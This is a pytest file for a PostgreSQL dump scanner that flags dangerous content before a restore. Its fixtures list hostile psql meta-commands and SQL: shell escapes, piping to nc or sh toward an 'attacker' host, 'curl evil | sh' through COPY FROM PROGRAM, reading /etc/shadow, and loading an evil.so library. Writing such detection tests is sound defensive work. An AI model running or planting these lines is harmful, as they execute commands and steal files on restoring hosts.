"""The plain-SQL lexer and the security rules: what psql would run is caught, look-alikes are not."""

from __future__ import annotations

import io

import pytest

from backupcheck import sqllex
from backupcheck.dumpscan import scan_plain
from backupcheck.restore.errors import classify, parse_pg_restore_errors

HEADER = "--\n-- PostgreSQL database dump\n--\n\n-- Dumped by pg_dump version 15.20\n\n"
TRAILER = "\n--\n-- PostgreSQL database dump complete\n--\n\n"


def scan(body: str, header: bool = True):
    text = (HEADER if header else "") + body + (TRAILER if header else "")
    return scan_plain(io.BytesIO(text.encode()))


@pytest.mark.parametrize("line", [
    "\\! rm -rf /tmp/x\n",
    "SELECT 1; \\! id\n",
    "SELECT 1 \\g |sh\n",
    "\\o |nc attacker 9\n",
    "\\copy users to program 'sh'\n",
    "\\set x `id`\n",
    "\\setenv PAGER 'sh'\n",
    "\\i /etc/passwd\n",
    "\\lo_export 1 /tmp/x\n",
    "\\connect host=evil.example.com dbname=x\n",
    "\\restrict abc`id`\n",
])
def test_psql_meta_commands_that_act_on_the_host_are_found(line):
    found = scan("CREATE TABLE t (a int);\n" + line)
    assert found.security, line


@pytest.mark.parametrize("statement", [
    "COPY public.users (id) TO PROGRAM 'touch /tmp/x';\n",
    "copy users from program 'curl evil | sh';\n",
    "CREATE FUNCTION f() RETURNS void AS '/tmp/evil.so', 'f' LANGUAGE c;\n",
    "CREATE FUNCTION g() RETURNS int AS $$ import os $$ LANGUAGE plpython3u;\n",
    "CREATE EXTENSION IF NOT EXISTS adminpack;\n",
    "SELECT pg_read_file('/etc/shadow');\n",
    "SELECT lo_export(16400, '/tmp/x');\n",
    "ALTER SYSTEM SET archive_command = 'sh';\n",
    "DO $$ BEGIN EXECUTE 'COPY t TO PROGRAM ''id'''; END $$;\n",
    "COPY t FROM '/etc/passwd';\n",
])
def test_server_side_escapes_are_found(statement):
    assert scan("CREATE TABLE t (a int);\n" + statement).security, statement


@pytest.mark.parametrize("body", [
    "INSERT INTO t VALUES ('\\! not a command');\n",
    "INSERT INTO t VALUES (E'it\\'s \\! still a string');\n",
    "CREATE FUNCTION f() RETURNS text AS $$ SELECT '\\! in a body' $$ LANGUAGE sql;\n",
    "CREATE FUNCTION f() RETURNS text AS $tag$ \\o |sh $tag$ LANGUAGE sql;\n",
    "/* a comment \\! with a backslash */ SELECT 1;\n",
    "-- a comment \\! with a backslash\nSELECT 1;\n",
    'CREATE TABLE "we\\!rd" (a int);\n',
    "COPY public.t (a) FROM stdin;\n\\\\! data that looks like a command\nx\\tCOPY y TO PROGRAM 'z'\n\\.\n",
    "INSERT INTO docs VALUES ('how to copy a program');\n",
])
def test_look_alikes_inside_strings_comments_and_data_are_not_findings(body):
    found = scan("CREATE TABLE t (a text);\n" + body)
    assert found.security == []
    assert found.errors == []


def test_pg_dumps_own_meta_commands_are_allowed():
    body = ("\\restrict AbC123\nCREATE TABLE t (a int);\n\\unrestrict AbC123\n"
            "\\connect postgres\n\\connect -reuse-previous=on \"dbname='other db'\"\n")
    found = scan(body)
    assert found.security == []
    assert found.databases == ["postgres", "other db"]


def test_copy_rows_are_counted_per_table_in_one_read():
    body = ("CREATE TABLE public.t (a int, b text);\n"
            "COPY public.t (a, b) FROM stdin;\n1\tone\n2\ttwo\\nwith escaped newline\n3\t\\N\n\\.\n"
            "COPY public.t (a, b) FROM stdin;\n4\tfour\n\\.\n"
            "INSERT INTO public.u VALUES (1), (2), (3);\n")
    found = scan(body)
    assert found.row_counts == {"public.t": 4, "public.u": 3}
    assert found.tables == ["public.t"]


def test_a_missing_trailer_or_terminator_is_truncation():
    no_trailer = scan_plain(io.BytesIO((HEADER + "CREATE TABLE t (a int);\n").encode()))
    assert any("truncated" in e for e in no_trailer.errors)
    # A dump whose comments were stripped (Supabase CLI) cannot show a trailer: not claimed as truncated.
    assert scan("CREATE TABLE t (a int);\n", header=False).errors == []
    cut = HEADER + "CREATE TABLE t (a int);\nCOPY public.t (a) FROM stdin;\n1\n2\n"
    found = scan_plain(io.BytesIO(cut.encode()))
    assert any("terminator" in e for e in found.errors)
    assert any("trailer" in e for e in found.errors)


def test_a_statement_cut_in_a_string_is_reported():
    events = list(sqllex.events(io.BytesIO(b"INSERT INTO t VALUES ('unterminated")))
    assert isinstance(events[-1], sqllex.Unterminated)
    assert "quoted string" in events[-1].what


def test_begin_atomic_bodies_stay_one_statement():
    sql = (b"CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT CASE WHEN true THEN 1 END; END;\n"
           b"SELECT 2;\n")
    statements = [e for e in sqllex.events(io.BytesIO(sql)) if isinstance(e, sqllex.Statement)]
    assert len(statements) == 2


@pytest.mark.parametrize("message, statement, severity, lost", [
    ('role "postgres" already exists', "CREATE ROLE postgres;", "benign", ""),
    ('role "app_ro" does not exist', "GRANT SELECT ON TABLE public.t TO app_ro;", "benign", ""),
    ('role "owner1" does not exist', "ALTER TABLE public.t OWNER TO owner1;", "benign", ""),
    ('type "public.geometry" does not exist', "CREATE TABLE public.places (g public.geometry);", "harmful",
     "table public.places"),
    ('relation "public.t" does not exist', "COPY public.t (a) FROM stdin;", "harmful", "rows of table public.t"),
    ('could not create unique index "t_pkey"', "ALTER TABLE ONLY public.t ADD CONSTRAINT t_pkey PRIMARY KEY (a);",
     "harmful", "constraint t_pkey on public.t"),
])
def test_restore_errors_are_classified(message, statement, severity, lost):
    assert classify(message, statement, "", "") == (severity, lost)


def test_pg_restore_stderr_is_parsed_into_errors():
    stderr = (
        "pg_restore: while PROCESSING TOC:\n"
        "pg_restore: from TOC entry 215; 1259 16385 TABLE places owner\n"
        "pg_restore: error: could not execute query: ERROR:  type \"public.geometry\" does not exist\n"
        "LINE 3:     g public.geometry\n"
        "Command was: CREATE TABLE public.places (\n    g public.geometry\n);\n"
        "pg_restore: from TOC entry 3300; 0 16385 TABLE DATA places owner\n"
        "pg_restore: error: could not execute query: ERROR:  relation \"public.places\" does not exist\n"
        "Command was: COPY public.places (g) FROM stdin;\n"
        "pg_restore: warning: errors ignored on restore: 2\n"
    )
    errors, fatal = parse_pg_restore_errors(stderr, "x.dump")
    assert fatal == ""
    assert [(e.severity, e.lost) for e in errors] == [("harmful", "table places"), ("harmful", "rows of table places")]
